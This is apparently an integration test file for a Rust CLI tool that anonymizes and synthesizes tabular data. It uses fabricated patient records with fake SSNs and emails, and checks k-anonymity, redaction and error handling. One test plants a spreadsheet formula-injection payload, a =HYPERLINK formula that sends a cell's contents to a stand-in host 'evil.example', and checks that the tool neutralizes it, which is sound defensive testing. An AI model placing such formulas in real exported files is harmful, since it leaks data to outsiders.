//! `palisade data anonymize|synthesize` through the real binary, on files a user would have.

use std::path::Path;
use std::process::{Command, Output};

use crate::common::Edit;

const BIN: &str = env!("CARGO_BIN_EXE_palisade");

fn palisade(dir: &Path, args: &[&str]) -> Output {
    Command::new(BIN)
        .current_dir(dir)
        .args(args)
        .output()
        .expect("the palisade binary runs")
}

fn stderr(out: &Output) -> String {
    String::from_utf8_lossy(&out.stderr).into_owned()
}

/// 400 patients; each age band × sex × ZIP3 group has about 16 rows once generalized, but
/// one patient lives alone in a sparse ZIP.
fn patients(dir: &Path) {
    let mut csv = String::from("id,name,email,age,sex,zip,dob,notes,diagnosis,glucose\n");
    for i in 0..400u32 {
        let age = 30 + (i * 7) % 20;
        let sex = ["F", "M"][(i % 2) as usize];
        let zip = ["94107", "94110"][((i / 2) % 2) as usize];
        let notes = match i % 4 {
            0 => format!("SSN 536-22-{:04}", 1000 + i),
            1 => format!("reach me at patient{i}@example.org"),
            _ => "no notes".to_string(),
        };
        let diagnosis = ["flu", "asthma", "diabetes"][(i % 3) as usize];
        csv.push_str(&format!(
            "{},Patient {i},p{i}@example.com,{age},{sex},{zip},{}-0{}-1{},\"{notes}\",{diagnosis},{}\n",
            5000 + i,
            2025 - age,
            1 + i % 9,
            i % 9,
            80 + age + (i % 13)
        ));
    }
    csv.push_str("9999,Lone Person,lone@example.com,41,F,82190,1984-01-01,,flu,99\n");
    std::fs::write(dir.join("patients.csv"), csv).unwrap();
    std::fs::write(dir.join("hash.key"), "11".repeat(32)).unwrap();
    std::fs::write(
        dir.join("rules.toml"),
        r#"
hash_key = "hash.key"
[columns]
id = "drop"
name = "drop"
email = "hash"
age = { generalize = "age", width = 10 }
zip = { generalize = "zip", keep = 3 }
dob = { generalize = "date", to = "year" }
notes = "redact"
[privacy]
quasi_identifiers = ["age", "sex", "zip", "dob"]
k = 5
sensitive = ["diagnosis"]
l = 2
max_suppressed = 0.02
"#
        .edit(
            "[privacy]",
            "sex = \"keep\"\ndiagnosis = \"keep\"\nglucose = \"keep\"\n[privacy]",
        ),
    )
    .unwrap();
}

#[test]
fn anonymize_minimizes_every_column_and_suppresses_the_lone_patient() {
    let dir = tempfile::tempdir().unwrap();
    patients(dir.path());
    let out = palisade(
        dir.path(),
        &[
            "data",
            "anonymize",
            "patients.csv",
            "out.csv",
            "--rules",
            "rules.toml",
            "--report",
            "report.json",
        ],
    );
    assert!(out.status.success(), "{}", stderr(&out));
    let written = std::fs::read_to_string(dir.path().join("out.csv")).unwrap();
    let header = written.lines().next().unwrap();
    assert_eq!(header, "email,age,sex,zip,dob,notes,diagnosis,glucose");
    for planted in [
        "Patient 1",
        "p1@example.com",
        "536-22-",
        "patient1@example.org",
        "94107",
        "82190",
        "Lone",
        "-01-1",
    ] {
        assert!(!written.contains(planted), "{planted} reached the output");
    }
    assert!(written.contains("<US_SSN>") && written.contains("<EMAIL_ADDRESS>"));
    let report: serde_json::Value =
        serde_json::from_slice(&std::fs::read(dir.path().join("report.json")).unwrap()).unwrap();
    assert_eq!(report["rows_in"], 401);
    assert_eq!(report["suppressed"], 1, "{report}");
    assert_eq!(report["rows_out"], 400);
    assert_eq!(report["before"]["k"], 1);
    assert!(report["after"]["k"].as_u64().unwrap() >= 5, "{report}");
    assert!(report["after"]["l"].as_u64().unwrap() >= 2, "{report}");
    let text = stderr(&out);
    assert!(
        text.contains("1 suppressed") && text.contains("target k = 5"),
        "{text}"
    );
    assert!(
        !text.contains("536-22-") && !text.contains("@example"),
        "{text}"
    );
}

#[test]
fn anonymize_refuses_below_target_and_writes_nothing() {
    let dir = tempfile::tempdir().unwrap();
    patients(dir.path());
    let rules = std::fs::read_to_string(dir.path().join("rules.toml"))
        .unwrap()
        .edit("max_suppressed = 0.02", "below_target = \"refuse\"");
    std::fs::write(dir.path().join("strict.toml"), rules).unwrap();
    let out = palisade(
        dir.path(),
        &[
            "data",
            "anonymize",
            "patients.csv",
            "out.csv",
            "--rules",
            "strict.toml",
        ],
    );
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
    assert!(stderr(&out).contains("refused"), "{}", stderr(&out));
    assert!(!dir.path().join("out.csv").exists());
    // No temporary file is left behind either.
    let left: Vec<_> = std::fs::read_dir(dir.path())
        .unwrap()
        .filter_map(|e| e.ok())
        .filter(|e| e.file_name().to_string_lossy().ends_with(".tmp"))
        .collect();
    assert!(left.is_empty());
}

#[test]
fn anonymize_errors_name_the_file_key_or_line() {
    let dir = tempfile::tempdir().unwrap();
    patients(dir.path());
    let d = dir.path();
    // The output may not replace the input.
    let out = palisade(
        d,
        &[
            "data",
            "anonymize",
            "patients.csv",
            "patients.csv",
            "--rules",
            "rules.toml",
        ],
    );
    assert_eq!(out.status.code(), Some(2));
    assert!(
        stderr(&out).contains("OUT is the input"),
        "{}",
        stderr(&out)
    );
    // Hashing without a key.
    let no_key = std::fs::read_to_string(d.join("rules.toml"))
        .unwrap()
        .edit("hash_key = \"hash.key\"", "");
    std::fs::write(d.join("nokey.toml"), no_key).unwrap();
    let out = palisade(
        d,
        &[
            "data",
            "anonymize",
            "patients.csv",
            "o.csv",
            "--rules",
            "nokey.toml",
        ],
    );
    assert_eq!(out.status.code(), Some(2));
    assert!(stderr(&out).contains("--hash-key"), "{}", stderr(&out));
    // A typo in the rules.
    std::fs::write(
        d.join("typo.toml"),
        "default = \"keep\"\n[columns]\nage = { generalize = \"agee\" }\n[privacy]\nquasi_identifiers = [\"age\"]\nk = 2\n",
    )
    .unwrap();
    let out = palisade(
        d,
        &[
            "data",
            "anonymize",
            "patients.csv",
            "o.csv",
            "--rules",
            "typo.toml",
        ],
    );
    let text = stderr(&out);
    assert_eq!(out.status.code(), Some(2));
    assert!(
        text.contains("typo.toml") && text.contains("columns.age") && text.contains("agee"),
        "{text}"
    );
    // A value that cannot be generalized: line and column, not the value.
    let bad = std::fs::read_to_string(d.join("patients.csv"))
        .unwrap()
        .replacen("94110", "9411X", 1);
    std::fs::write(d.join("bad.csv"), bad).unwrap();
    let out = palisade(
        d,
        &[
            "data",
            "anonymize",
            "bad.csv",
            "o.csv",
            "--rules",
            "rules.toml",
        ],
    );
    let text = stderr(&out);
    assert_eq!(out.status.code(), Some(2));
    assert!(
        text.contains("line ") && text.contains("`zip`") && !text.contains("9411X"),
        "{text}"
    );
    assert!(!d.join("o.csv").exists());
}

#[test]
fn synthesize_writes_new_rows_with_a_fidelity_and_privacy_report() {
    let dir = tempfile::tempdir().unwrap();
    patients(dir.path());
    let out = palisade(
        dir.path(),
        &[
            "data",
            "synthesize",
            "patients.csv",
            "synthetic.jsonl",
            "--rows",
            "300",
            "--seed",
            "5",
            "--report",
            "report.json",
        ],
    );
    assert!(out.status.success(), "{}", stderr(&out));
    let text = stderr(&out);
    assert!(
        text.contains("fidelity") && text.contains("privacy"),
        "{text}"
    );
    let written = std::fs::read_to_string(dir.path().join("synthetic.jsonl")).unwrap();
    assert_eq!(
        written.lines().count(),
        300,
        "OUT's extension chose JSON Lines"
    );
    for planted in ["Patient ", "@example.com", "536-22-"] {
        assert!(
            !written.contains(planted),
            "{planted} copied into synthetic data"
        );
    }
    let report: serde_json::Value =
        serde_json::from_slice(&std::fs::read(dir.path().join("report.json")).unwrap()).unwrap();
    let left: Vec<&str> = report["left_out"]
        .as_array()
        .unwrap()
        .iter()
        .map(|p| p[0].as_str().unwrap())
        .collect();
    assert!(
        left.contains(&"id") && left.contains(&"name") && left.contains(&"email"),
        "{left:?}"
    );
    assert_eq!(report["privacy"]["exact_matches"], 0);
    assert_eq!(report["seed"], 5);
    // The same seed gives the same rows.
    let again = palisade(
        dir.path(),
        &[
            "data",
            "synthesize",
            "patients.csv",
            "again.jsonl",
            "--rows",
            "300",
            "--seed",
            "5",
        ],
    );
    assert!(again.status.success());
    assert_eq!(
        std::fs::read_to_string(dir.path().join("again.jsonl")).unwrap(),
        written
    );
    // A malformed input names its line.
    std::fs::write(dir.path().join("bad.csv"), "a,b\n1,2\n3\n").unwrap();
    let out = palisade(
        dir.path(),
        &["data", "synthesize", "bad.csv", "o.csv", "--rows", "5"],
    );
    assert_eq!(out.status.code(), Some(2));
    assert!(stderr(&out).contains("bad.csv: line 3"), "{}", stderr(&out));
}

/// Cells an analyst's spreadsheet would run (`=HYPERLINK(...)`, `@SUM(...)`) come out as text
/// from both tools unless the caller opts out loudly.
#[test]
fn formula_cells_are_neutralized_in_csv_outputs() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    let mut csv = String::from("group,comment,score\n");
    for i in 0..60u32 {
        let comment = match i % 3 {
            0 => "\"=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"open\"\")\"",
            1 => "@SUM(A1:A9)",
            _ => "fine",
        };
        let score = -f64::from(i * 7919 % 1000) / 10.0 - 0.25;
        csv.push_str(&format!("g{},{comment},{score}\n", i % 2));
    }
    std::fs::write(d.join("in.csv"), csv).unwrap();
    std::fs::write(
        d.join("rules.toml"),
        "[columns]\ngroup = \"keep\"\ncomment = \"keep\"\nscore = \"keep\"\n",
    )
    .unwrap();
    let anonymize = |extra: &[&str]| {
        let mut args = vec![
            "data",
            "anonymize",
            "in.csv",
            "out.csv",
            "--rules",
            "rules.toml",
        ];
        args.extend_from_slice(extra);
        let out = palisade(d, &args);
        assert!(out.status.success(), "{}", stderr(&out));
        std::fs::read_to_string(d.join("out.csv")).unwrap()
    };
    let safe = anonymize(&[]);
    assert!(
        safe.contains("\"'=HYPERLINK(") && safe.contains("'@SUM(A1:A9)"),
        "{safe}"
    );
    assert!(
        !safe.contains(",=HYPERLINK") && !safe.contains(",@SUM"),
        "{safe}"
    );
    assert!(
        safe.contains(",-0.25\n"),
        "plain negative numbers stay numbers: {safe}"
    );
    let kept = anonymize(&["--dangerous-keep-formulas"]);
    assert!(kept.contains(",@SUM(A1:A9),"), "{kept}");

    let out = palisade(
        d,
        &[
            "data",
            "synthesize",
            "in.csv",
            "syn.csv",
            "--rows",
            "50",
            "--seed",
            "1",
            "--columns",
            "comment,score",
        ],
    );
    assert!(out.status.success(), "{}", stderr(&out));
    let syn = std::fs::read_to_string(d.join("syn.csv")).unwrap();
    assert!(syn.contains("'@SUM(A1:A9)"), "{syn}");
    assert!(
        !syn.lines()
            .any(|l| l.starts_with('@') || l.starts_with('=')),
        "{syn}"
    );
}
